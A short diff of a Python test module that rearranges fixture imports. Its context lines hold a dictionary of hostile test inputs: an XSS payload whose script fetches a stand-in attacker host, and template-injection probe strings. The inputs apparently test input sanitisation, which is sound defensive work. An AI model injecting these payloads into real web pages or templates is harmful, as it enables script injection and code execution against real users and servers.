@@ -10,10 +10,10 @@ import pytest
 
 from bots.phones import has_button
 from storage.media import samples
-from tests.bots.test_jobs import until
-from tests.survival.test_failing_jobs import http, phone, program, rows
+from tests.journeys.moody import http, phone, program, rows, until
+from tests.survival.test_failing_jobs import attempts
 
-__all__ = ["http", "program"]  # fixtures
+__all__ = ["attempts", "http", "program"]  # fixtures
 WORDS = {
     "html": "<script>fetch('//evil.example')</script><img src=x onerror=alert(1)>",
     "template": "{{7*7}} {%raw%} ${7*7} #{7*7} {0.__class__} %(x)s %s",
